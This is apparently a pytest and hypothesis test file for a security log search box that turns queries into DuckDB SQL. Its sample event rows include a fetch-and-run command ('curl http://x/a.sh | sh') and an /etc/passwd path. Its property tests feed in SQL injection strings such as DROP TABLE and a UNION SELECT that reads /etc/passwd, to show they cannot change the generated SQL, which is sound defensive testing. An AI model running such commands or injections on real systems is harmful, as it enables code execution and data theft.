"""The search box: what a search means, and that no text of a person gets into the statement."""

import fnmatch
import json
from collections.abc import Callable
from datetime import UTC, datetime
from ipaddress import ip_address, ip_network
from typing import Any

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from foreseen.core.errors import ForeseenError, MalformedInputError, NotFoundError
from foreseen.lake.asking.searchbox.fields import names_of
from foreseen.lake.asking.searchbox.statement import Wanted, statement
from foreseen.lake.tables import TABLES
from foreseen.schema.arrow import EVENT_SCHEMA, batch_of

NOW = 1_790_000_000_000
DAY = 86_400_000
Row = dict[str, object]
DATABASE = duckdb.connect(config={"threads": 1})
"""Of the properties, whose examples are many."""


def row(seq: int, **columns: object) -> Row:
    return {"tenant": "default", "seq": seq, "time": NOW - seq * DAY, **columns}


ROWS = [
    row(0, user_name="alice", process_cmd_line="curl http://x/a.sh | sh", host="web-1"),
    row(1, user_name="Alice", process_cmd_line="CURL -O https://y", host="web-2", dst_port=443),
    row(2, auth_account="alice", host="db-1", dst_port=22, src_ip="10.1.2.3"),
    row(3, user_name="bob", file_path="/etc/passwd", src_ip="11.0.0.1", dst_ip="10.255.255.255"),
    row(4, process_path="/usr/bin/Bash", process_name="bash", labels=["r1", "other"]),
    row(5, process_path="/opt/bash/run", labels=["r10"], exit_code=-1, src_port=2**63 - 1),
    row(6, raw="sha256=0123456789ABCDEF0123456789abcdef quote \" it's 100% _ \\ [x]"),
    row(7, unmapped={"Key": ["Some Value", "x"]}, src_ip="2001:db8::1"),
    row(8, src_ip="2001:0DB8:0:0:0:0:0:00ff", dst_ip="2001:db9::1", user_name="o'hara"),
    row(9, query_hostname="evil.example.com", src_ip="::ffff:10.0.0.1", host=""),
    row(10, process_cmd_line="line one\nline two", user_name="a*b", src_ip="10.0.0.256"),
    row(11, process_cmd_line="a:b AND (c) OR -d", user_name="AND", src_ip="1.2.3"),
]


@pytest.fixture(scope="module")
def found() -> Callable[..., set[object]]:
    """Which rows a search finds."""
    database = duckdb.connect()
    table = batch_of(ROWS, EVENT_SCHEMA)
    database.register("events", table)

    def search(text: str) -> set[object]:
        sql = statement(text, Wanted(columns=("seq",)), now=NOW)
        return {seq for (seq,) in database.execute(sql).fetchall()}

    return search


@pytest.mark.parametrize(
    ("text", "rows"),
    [
        ("", set(range(12))),
        ("user:alice", {0, 2}),
        ("USER:alice", {0, 2}),
        ("user:alice cmd:curl", {0}),
        ("cmd:curl", {0, 1}),
        ("cmd:curl -user:alice", {1}),
        ("NOT cmd:curl NOT user:bob", {2, 4, 5, 6, 7, 8, 9, 10, 11}),
        ("user:alice OR user:bob host:web-1", {0, 2}),
        ("(user:alice OR user:bob) host:web-1", {0}),
        ("-(user:alice OR cmd:curl) host:*", {9}),
        ("NOT NOT user:bob", {3}),
        ("host:web-*", {0, 1}),
        ("host:web-?", {0, 1}),
        ("host:?eb-1", {0}),
        ("host:*", {0, 1, 2, 9}),
        ("-host:*", {3, 4, 5, 6, 7, 8, 10, 11}),
        ('host:""', {9}),
        ('user:"a*b"', {10}),
        (r"user:a\*b", {10}),
        ("user:a*", {0, 2, 10}),
        ("user:o'hara", {8}),
        ('user:"o\'hara"', {8}),
        ("dst_port:22", {2}),
        ("port:22", {2}),
        ("dst_port:>22", {1}),
        ("dst_port:>=22", {1, 2}),
        ("dst_port:<443", {2}),
        ("dst_port:[22 TO 443]", {1, 2}),
        ("dst_port:[* TO 100]", {2}),
        ("dst_port:[100 TO *]", {1}),
        ("exit_code:-1", {5}),
        ("src_port:9223372036854775807", {5}),
        ("src_ip:10.0.0.0/8", {2}),
        ("ip:10.0.0.0/8", {2, 3}),
        ("ip:0.0.0.0/0", {2, 3}),
        ("ip:2001:db8::/32", {7, 8}),
        ("ip:2001:db8::/120", {7, 8}),
        ("ip:2001:db8::/121", {7}),
        ("ip:2001:db8::1", {7}),
        ("ip:2001:DB8:0:0::1", {7}),
        ("ip:10.1.*", {2}),
        ("process:bash", {4}),
        ("process:/usr/bin/bash", {4}),
        ("process:*bash*", {4, 5}),
        ("file:passwd", {3}),
        ("file:/etc/*", {3}),
        ("file:etc/*", set()),
        ("rule:r1", {4}),
        ("rule:r1*", {4, 5}),
        ("rule:*the*", {4}),
        ("hash:0123456789abcdef0123456789ABCDEF", {6}),
        ("unmapped:some", {7}),
        ("unmapped:some*", {7}),
        ("unmapped:value", {7}),
        ("evil", {9}),
        ("EXAMPLE", {9}),
        ("value", {7}),
        ('"line two"', {10}),
        ("line two", {10}),
        ("cmd:line*two", {10}),
        ('"it\'s 100% _ \\\\ [x]"', {6}),
        (r'"quote \" it"', {6}),
        ('"a:b AND (c)"', {11}),
        ("user:AND", {11}),
        ('user:"AND"', {11}),
        ("last:24h", {0, 1}),
        ("last:1d", {0, 1}),
        ("last:2w", set(range(12))),
        ("time:>=2026-09-20", {0, 1}),
        ("time:2026-09-20", {1}),
        ("time:2026-09-20T14", {1}),
        ("time:2026-09-20T15", set()),
        ("time:>2026-09-20", {0}),
        ("time:<2026-09-11", {11}),
        ("time:<=2026-09-11", {10, 11}),
        ("time:[2026-09-20 TO 2026-09-21]", {0, 1}),
        ("time:2026-08", set()),
        ("time:2026", set(range(12))),
        (f"time:{NOW}", {0}),
    ],
)
def test_a_search_finds_what_it_says(
    found: Callable[..., set[object]], text: str, rows: set[int]
) -> None:
    assert found(text) == rows


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("host:a usr:x", "column 8: events have no field 'usr' .*did you mean 'user'"),
        ("http://x", "column 1: .*in quotes"),
        ("host:", "column 6: a value is missing"),
        ('a "b', "column 3: the quote does not end"),
        ("(a", "column 1: this bracket is not closed"),
        ("a )", "column 3: this bracket closes none"),
        ("()", "column 2: a term is missing"),
        ("a OR", "column 5: a term is missing"),
        ("AND a", "column 1: a term is missing"),
        ("a AND OR b", "column 7: a term is missing"),
        ("NOT", "column 4: a term is missing"),
        ("dst_port:x", "column 10: 'x' is no whole number"),
        ("dst_port:9223372036854775808", "no whole number of 64 bits"),
        ("dst_port:\u0661", "no whole number"),
        ("dst_port:[1 TO", "column 10: a range is written"),
        ("dst_port:[1 TO 2", "column 10: the range does not end"),
        ("cmd:>x", "column 1: 'process_cmd_line' cannot be compared"),
        ("user:>a*", "column 7: .* cannot be compared"),
        ("src_ip:10.0.0.0/40", "column 8: .* no network"),
        ("time:yesterday", "column 6: 'yesterday' is no time; write it like"),
        ("time:2026-02-30", "no time"),
        ("last:tomorrow", "column 6: .* no span"),
        ("last:>1d", "column 1: a span has no comparison"),
        ("hash:abc", "column 6: a checksum"),
        ("a\x00b", "column 2: the character NUL"),
        ("a\ud800", "column 2: half of a character pair"),
        ("x" * 10_001, "10,000 characters at most"),
        ("a " * 300, "200 terms at most"),
        ("(" * 60 + "a" + ")" * 60, "50 deep at most"),
        ("-" * 5000 + "a", "50 deep at most"),
    ],
)
def test_what_cannot_be_understood_is_told_with_its_place(text: str, told: str) -> None:
    with pytest.raises(MalformedInputError, match=told):
        statement(text, now=NOW)


def test_tables_and_columns_are_those_of_the_lake() -> None:
    with pytest.raises(NotFoundError, match="no table"):
        statement("a", Wanted('x"; DROP'), now=NOW)
    with pytest.raises(NotFoundError, match="no column"):
        statement("a", Wanted(columns=('seq"; --',)), now=NOW)


@pytest.mark.long
@pytest.mark.parametrize("table", list(TABLES))
def test_every_field_of_every_table_can_be_asked(table: str) -> None:
    database = duckdb.connect()
    database.register(table, TABLES[table].schema.empty_table())
    values = ("1", "*", "a*", "true", "10.0.0.0/8", "2026-09-20", "24h", "a" * 32, '"x"')
    for field in names_of(table):
        asked = 0
        for value in values:
            try:
                sql = statement(f"{field}:{value}", Wanted(table), now=NOW)
            except MalformedInputError:
                continue
            database.execute(sql)
            asked += 1
        assert asked, field
    database.execute(statement("word -other", Wanted(table), now=NOW))


HOSTILE = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "'; DROP TABLE events; --",
            "' OR 1=1 --",
            "') UNION SELECT * FROM read_text('/etc/passwd') --",
            "\\'; COPY (SELECT 1) TO 'x",
            "'' OR ''=''",
            "/* */ --",
            "$$; SELECT 1; $$",
            "E'\\x27 OR 1'",
            "\u2019 OR \uff07",
            "${x} %s {0} ?",
            "a\nb; --",
            "(?i)(?-s).*\\E\\Q",
            "$1 $v0",
        ]
    ),
)
FIELDS = st.sampled_from(["user", "host", "cmd", "rule", "unmapped", "process", "ip", "raw", ""])


_VALUES = {"value", "text", "query_location", "query_location_length"}


def shape(sql: str) -> object:
    """The statement's structure without the values in it."""
    ((said,),) = DATABASE.execute("SELECT json_serialize_sql($1::VARCHAR)", [sql]).fetchall()
    tree = json.loads(said)
    assert tree["error"] is False, tree
    assert len(tree["statements"]) == 1
    return _without_values(tree)


def _without_values(node: object) -> object:
    if isinstance(node, dict):
        return {
            key: None if key in _VALUES else _without_values(each) for key, each in node.items()
        }
    return [_without_values(each) for each in node] if isinstance(node, list) else node


def written(text: str) -> str:
    """A text as a person quotes it."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


@settings(max_examples=150, deadline=None)
@given(field=FIELDS, text=HOSTILE)
def test_no_text_changes_the_structure_of_the_statement(field: str, text: str) -> None:
    prefix = f"{field}:" if field else ""
    plain = "/plain" if "/" in text or "\\" in text else "plain"  # a path is asked otherwise
    try:
        sql = statement(f"{prefix}{written(text)} AND host:x", now=NOW)
    except MalformedInputError:
        return
    single = ip_address_of(text) is None and "/" not in text
    if field == "ip" and not single:
        return
    assert shape(sql) == shape(statement(f'{prefix}"{plain}" AND host:x', now=NOW))


@settings(max_examples=60, deadline=None)
@given(text=HOSTILE)
def test_a_quoted_value_finds_exactly_itself(text: str) -> None:
    try:
        sql = statement(f"host:{written(text)}", Wanted(columns=("seq",)), now=NOW)
    except MalformedInputError:
        return
    DATABASE.register(
        "events", batch_of([row(1, host=text), row(2, host=text + "x")], EVENT_SCHEMA)
    )
    assert DATABASE.execute(sql).fetchall() == [(1,)]


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet="ab:\"'()-*?\\ []<>/.0ANDORTlasthoue\n;\x00\ud800", max_size=60))
def test_any_text_is_one_select_or_an_error_with_its_place(text: str) -> None:
    try:
        sql = statement(text, now=NOW)
    except ForeseenError as error:
        assert str(error).startswith("column ")  # noqa: PT017 (either of both is right)
        return
    (only,) = DATABASE.extract_statements(sql)
    assert only.type == duckdb.StatementType.SELECT


ADDRESSES = st.one_of(
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(str),
    st.ip_addresses(v=6).map(lambda address: address.exploded.upper()),
    st.ip_addresses(network="10.0.0.0/8").map(str),
    st.ip_addresses(network="2001:db8::/32").map(str),
    st.sampled_from(["", "x", "1.2.3", "999.1.1.1", ":::", "1:2:3", "::"]),
)
NETWORKS = st.sampled_from(
    ["10.0.0.0/8", "0.0.0.0/1", "10.1.2.3/32", "2001:db8::/32", "::/1", "2001:db8::/45", "::/128"]
)


@settings(max_examples=60, deadline=None)
@given(addresses=st.lists(ADDRESSES, min_size=5, max_size=20), network=NETWORKS)
def test_networks_hold_the_addresses_that_they_hold(addresses: list[str], network: str) -> None:
    rows = [row(number, src_ip=address) for number, address in enumerate(addresses)]
    DATABASE.register("events", batch_of(rows, EVENT_SCHEMA))
    sql = statement(f"src_ip:{network}", Wanted(columns=("seq",)), now=NOW)
    found = {seq for (seq,) in DATABASE.execute(sql).fetchall()}
    inside = ip_network(network)
    wanted = {
        number
        for number, address in enumerate(addresses)
        if (parsed := ip_address_of(address)) is not None
        and parsed.version == inside.version
        and parsed in inside
        and not ("." in address and parsed.version == 6)
    }
    assert found == wanted


@settings(max_examples=150, deadline=None)
@given(
    pattern=st.text(alphabet="ab*?.", min_size=1, max_size=6),
    values=st.lists(st.text(alphabet="aAb.\n", max_size=6), min_size=1, max_size=6),
)
def test_wildcards_fit_whole_values(pattern: str, values: list[str]) -> None:
    if not {"*", "?"} & set(pattern):
        return
    rows = [row(number, host=value) for number, value in enumerate(values)]
    DATABASE.register("events", batch_of(rows, EVENT_SCHEMA))
    sql = statement(f"host:{pattern}", Wanted(columns=("seq",)), now=NOW)
    found = {seq for (seq,) in DATABASE.execute(sql).fetchall()}
    assert found == {
        number for number, value in enumerate(values) if fnmatch.fnmatchcase(value, pattern)
    }


def test_newest_come_first_up_to_the_limit() -> None:
    DATABASE.register("events", batch_of(ROWS, EVENT_SCHEMA))
    sql = statement("", Wanted(columns=("seq", "time"), limit=3), now=NOW)
    assert [seq for seq, _ in DATABASE.execute(sql).fetchall()] == [0, 1, 2]
    assert datetime.fromtimestamp(NOW / 1000, UTC).year == 2026


def ip_address_of(text: str) -> Any:  # noqa: ANN401 (of both versions)
    try:
        return ip_address(text)
    except ValueError:
        return None
